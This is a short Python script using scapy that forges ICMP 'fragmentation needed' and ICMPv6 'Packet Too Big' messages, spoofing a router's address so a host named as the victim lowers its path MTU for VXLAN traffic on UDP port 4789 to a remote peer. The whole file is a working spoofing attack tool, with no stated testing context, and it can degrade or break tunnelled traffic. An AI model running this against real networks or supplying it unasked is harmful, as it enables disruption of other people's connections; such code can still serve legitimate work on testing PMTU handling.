"""Forges ICMP errors that say too big: usage `spoof_too_big.py FROM TO REMOTE MTU PORT...`.

FROM a router, TO the host that is to believe it, REMOTE the destination of the datagrams that it quotes, which TO
would have sent from each PORT to UDP port 4789. IPv4 or IPv6, by the form of the addresses.
"""

import sys

from scapy.all import ICMP, IP, UDP, ICMPv6PacketTooBig, IPv6, Raw, send

router, victim, remote, mtu, *ports = sys.argv[1:]
for port in ports:
    quoted = UDP(sport=int(port), dport=4789) / Raw(b"\x08" + bytes(7) + bytes(1400))
    if ":" in victim:
        inside = bytes(IPv6(src=victim, dst=remote) / quoted)[:1000]
        packet = IPv6(src=router, dst=victim) / ICMPv6PacketTooBig(mtu=int(mtu)) / Raw(inside)
    else:
        inside = bytes(IP(src=victim, dst=remote, flags="DF") / quoted)[:500]
        packet = IP(src=router, dst=victim) / ICMP(type=3, code=4, nexthopmtu=int(mtu)) / Raw(inside)
    send(packet, verbose=False)
